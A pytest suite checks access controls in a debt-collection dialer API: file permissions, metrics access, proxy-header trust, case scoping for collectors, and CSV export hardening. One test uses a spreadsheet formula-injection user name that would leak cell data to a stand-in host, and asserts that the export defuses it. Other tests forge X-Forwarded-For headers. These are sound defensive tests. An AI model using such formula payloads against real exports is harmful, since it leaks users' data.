"""The smaller access findings: private database files, metrics for admin only, the
client address believed only from trusted proxies, collectors held to the cases they
may open, no user-name probing across creditors, the console's minimum access reason
and its CSV formula guard on the API too."""

from __future__ import annotations

import csv
import io
import os
import stat
from pathlib import Path

import pytest

from dialer import auth as auth_module
from dialer.config import build_config
from dialer.errors import ConfigError
from dialer.http.deps import client_of
from gate_api_support import Api
from tests.conftest import captured_logs


def test_the_database_and_its_wal_files_are_readable_by_their_owner_only(sqlite_api: Api) -> None:
    data = Path(sqlite_api.svc.config.paths.data_dir)
    files = [data / "dialgate.db", data / "dialgate.db-wal", data / "dialgate.db-shm"]
    assert all(f.exists() for f in files)
    assert {f.name: oct(stat.S_IMODE(f.stat().st_mode)) for f in files} == {f.name: "0o600" for f in files}


async def test_an_existing_world_readable_database_is_tightened_on_open(tmp_path: Path) -> None:
    from adapters.db.store import SqlAlchemyCaseStore

    db = tmp_path / "old.db"
    db.write_bytes(b"")
    os.chmod(db, 0o644)
    cfg = build_config({"paths": {"data_dir": str(tmp_path)}, "store": {"url": f"sqlite+aiosqlite:///{db}"}})
    async with SqlAlchemyCaseStore(cfg.store):
        pass
    assert stat.S_IMODE(db.stat().st_mode) == 0o600


@pytest.mark.parametrize(("who", "status"), [("admin", 200), ("comp-a", 403), ("col-a", 403), ("pbx", 403)])
async def test_metrics_summed_over_every_creditor_are_for_admin_and_monitor_only(api: Api, who: str, status: int) -> None:
    r = await api.get("/metrics", who)
    assert r.status_code == status


async def test_a_monitor_token_reads_metrics_and_readiness_and_nothing_else(api: Api) -> None:
    from dialer.auth import add_user

    _, token = await add_user(api.svc.store, api.clock, "prometheus", "monitor", frozenset())
    auth = {"Authorization": f"Bearer {token}"}
    assert (await api.client.get("/metrics", headers=auth)).status_code == 200
    assert (await api.client.get("/readyz", headers=auth)).status_code == 200
    for path in ("/v1/cases/C-1", "/v1/blocked-dials", "/v1/recordings", "/v1/lookup?number=13800000001",
                 "/v1/destruction-register", "/v1/purges"):
        r = await api.client.get(path, headers=auth)
        assert r.status_code in (403, 404), (path, r.status_code)
    r = await api.client.post("/v1/dials", json={"case_id": "C-1", "number": "13800000001", "agent_id": "col-a"},
                              headers=auth)
    assert r.status_code == 403


async def test_a_monitor_user_takes_no_creditor(api: Api) -> None:
    from dialer.auth import add_user
    from dialer.errors import UnprocessableEntity

    with pytest.raises(UnprocessableEntity, match="monitor"):
        await add_user(api.svc.store, api.clock, "prom-b", "monitor", frozenset({"bank-b"}))


def _scope(peer: str, xff: str | None) -> dict:
    headers = [(b"x-forwarded-for", xff.encode())] if xff is not None else []
    return {"client": (peer, 5000), "headers": headers}


class _Svc:
    def __init__(self, proxies: list[str]) -> None:
        self.config = build_config({"http": {"trusted_proxies": proxies}})


def test_x_forwarded_for_from_an_untrusted_peer_is_ignored() -> None:
    assert client_of(_scope("127.0.0.1", "203.0.113.9"), _Svc([])) == "127.0.0.1"
    assert client_of(_scope("192.0.2.7", "203.0.113.9"), _Svc(["10.0.0.0/8"])) == "192.0.2.7"


def test_x_forwarded_for_from_a_trusted_proxy_names_the_nearest_untrusted_hop() -> None:
    svc = _Svc(["10.0.0.0/8", "127.0.0.1"])
    # a client forging a first hop, then our two proxies: the forged hop is not believed
    assert client_of(_scope("127.0.0.1", "198.51.100.1, 203.0.113.9, 10.1.2.3"), svc) == "203.0.113.9"
    assert client_of(_scope("127.0.0.1", None), svc) == "127.0.0.1"


def test_a_trusted_proxy_that_is_not_an_address_is_refused_with_its_key() -> None:
    with pytest.raises(ConfigError, match="http.trusted_proxies"):
        build_config({"http": {"trusted_proxies": ["not-an-address"]}})


async def test_a_spoofed_forwarded_for_does_not_change_the_logged_client(api: Api) -> None:
    with captured_logs(auth_module) as logs:
        await api.client.get("/v1/cases/C-1", headers={"Authorization": "Bearer dg_x", "X-Forwarded-For": "6.6.6.6"})
    assert [e["client"] for e in logs if e["event"] == "auth.refused"] == ["127.0.0.1"]


async def test_a_collector_looks_up_only_the_cases_assigned_to_them(api: Api) -> None:
    mine = await api.get("/v1/lookup", "col-a", params={"number": "13800000001"})
    assert [i["case_id"] for i in mine.json()["items"]] == ["C-1"]
    other = await api.get("/v1/lookup", "col-a2", params={"number": "13800000001"})
    assert other.status_code == 200 and other.json()["items"] == []
    sup = await api.get("/v1/lookup", "sup-a", params={"number": "13800000001"})
    assert [i["case_id"] for i in sup.json()["items"]] == ["C-1"]


async def test_a_collector_reads_only_attempts_they_placed_or_of_their_cases(api: Api) -> None:
    r = await api.dial("col-a", "C-1", "13800000001")
    assert r.status_code == 201, r.text
    attempt = r.json()["attempt_id"]
    assert (await api.get(f"/v1/attempts/{attempt}", "col-a")).status_code == 200
    assert (await api.get(f"/v1/attempts/{attempt}", "sup-a")).status_code == 200
    r = await api.get(f"/v1/attempts/{attempt}", "col-a2")
    assert r.status_code == 404
    assert "13800000001" not in r.text


async def test_a_dial_check_naming_another_creditors_user_answers_as_for_a_user_that_does_not_exist(api: Api) -> None:
    check = {"case_id": "C-1", "number": "13800000001"}
    other = await api.post("/v1/dial-checks", "comp-a", {**check, "agent_id": "col-b"})
    nobody = await api.post("/v1/dial-checks", "comp-a", {**check, "agent_id": "no-such-user"})
    assert other.status_code == nobody.status_code == 422
    assert other.json()["detail"].replace("col-b", "X") == nobody.json()["detail"].replace("no-such-user", "X")
    same = await api.post("/v1/dial-checks", "comp-a", {**check, "agent_id": "col-a"})
    assert same.status_code == 200


@pytest.mark.parametrize("reason", ["x", " ab ", "abc"])
async def test_an_access_reason_shorter_than_the_consoles_four_characters_is_refused(api: Api, reason: str) -> None:
    r = await api.get("/v1/recordings/no-such/audio", "qa-a", params={"reason": reason})
    assert r.status_code == 400
    assert r.json()["type"].endswith("/reason-required")
    assert "4" in r.json()["detail"]
    r = await api.get("/v1/recordings/no-such/audio", "qa-a", params={"reason": "complaint"})
    assert r.status_code == 404


async def test_the_api_csv_export_defuses_cells_a_spreadsheet_would_run_as_formulas(api: Api) -> None:
    from dialer.auth import add_user

    evil = '=HYPERLINK("http://x.example/?"&A1,"open")'  # a valid user name: no spaces
    _, token = await add_user(api.svc.store, api.clock, evil, "supervisor", frozenset({"bank-a"}))
    r = await api.client.post("/v1/dials", json={"case_id": "C-1", "number": "13500000099", "agent_id": evil},
                              headers={"Authorization": f"Bearer {token}"})
    assert r.status_code == 403, r.text  # not on the case's list: a blocked decision naming the user
    r = await api.get("/v1/blocked-dials", "comp-a", params={"format": "csv"})
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert rows
    assert {row["agent_id"] for row in rows} == {"'" + evil}
    assert all(not c.startswith(("=", "@")) for row in rows for c in row.values())


@pytest.mark.parametrize("path", ["/v1/dials", "/v1/dial-checks"])
async def test_a_collector_dialing_a_case_not_assigned_to_them_learns_nothing_of_it_but_the_refusal(
        api: Api, path: str) -> None:
    r = await api.post("/v1/cases/C-1/pause", "sup-a", {"reason": "银行通知停催"})
    assert r.status_code == 200, r.text
    answers = {}
    for number in ("13900000002", "13500000000"):  # on the case's list, and not
        r = await api.post(path, "col-a2", {"case_id": "C-1", "number": number, "agent_id": "col-a2"})
        assert r.status_code in (200, 403), r.text
        decision = r.json()["decision"]
        assert decision["rule_id"] == "agent.not_assigned"
        assert [c["rule_id"] for c in decision["checks"] if c["rule_id"].startswith(("case.", "contact.", "cap."))] == []
        assert decision["inputs_used"] == {}
        assert "family" not in r.text and "paused" not in r.text and "暂停" not in r.text
        answers[number] = r.json()["decision"]["reason"]
    assert answers["13900000002"] == answers["13500000000"]
    # compliance still reads the whole decision in the blocked-dial log
    logged = (await api.get("/v1/blocked-dials", "comp-a", params={"agent": "col-a2"})).json()["items"]
    if path == "/v1/dials":
        assert len(logged) == 2 and all(len(i["checks"]) > 1 for i in logged)


async def test_the_pbx_dials_and_uploads_but_does_not_read_a_cases_record(api: Api) -> None:
    r = await api.dial("col-a", "C-1", "13800000001")
    aid = r.json()["attempt_id"]
    r = await api.post(f"/v1/attempts/{aid}/outcome", "col-a", {"disposition": "connected_self", "note": "答应月底还"})
    assert r.status_code == 201, r.text
    for path in ("/v1/cases/C-1", "/v1/cases/C-1/history"):
        r = await api.get(path, "pbx")
        assert r.status_code == 403, (path, r.status_code)
        assert "张三" not in r.text and "答应月底还" not in r.text
    assert (await api.dial("pbx", "C-1", "13900000002", agent="col-a")).status_code == 201
    assert (await api.get(f"/v1/attempts/{aid}", "pbx")).status_code == 200


async def test_readiness_names_only_the_creditors_a_scoped_user_works_for(api: Api) -> None:
    from policy import load_policy

    api.svc.policies = load_policy({"creditors": {"bank-a": {"cn_holidays": True}, "bank-b": {"window": {"end": "20:30"}}}})
    versions = {who: (await api.get("/readyz", who)).json()["policy_versions"] for who in ("col-b", "comp-a", "admin")}
    assert set(versions["col-b"]) == {"default", "bank-b"}
    assert set(versions["comp-a"]) == {"default", "bank-a"}
    assert set(versions["admin"]) == {"default", "bank-a", "bank-b"}
